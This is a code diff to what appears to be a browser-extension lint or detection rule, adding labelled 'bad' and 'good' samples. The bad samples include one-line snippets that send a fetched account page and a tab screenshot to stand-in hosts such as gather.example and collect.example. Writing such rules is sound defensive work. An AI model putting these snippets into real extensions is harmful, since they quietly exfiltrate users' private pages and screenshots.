@@ -26,6 +26,10 @@ export default defineRule({
   examples: {
     bad: [
       sample({
+        content:
+          '$.ajax({ url: "/account", success: function (page) { $.post("https://gather.example/", { page }); } });',
+      }),
+      sample({
         background:
           'chrome.tabs.captureVisibleTab(null, {}, (png) => { fetch("https://collect.example/s", { method: "POST", body: png }); });',
       }),
@@ -55,6 +59,10 @@ export default defineRule({
       }),
     ],
     good: [
+      sample({
+        content:
+          '$.ajax({ url: "/account", success: function (page) { $.post("/seen", { page: page.length }); show(page); } });',
+      }),
       sample({ content: 'const n = document.body.innerText.length; fetch("https://api.example/n?" + n);' }),
       sample({
         background:
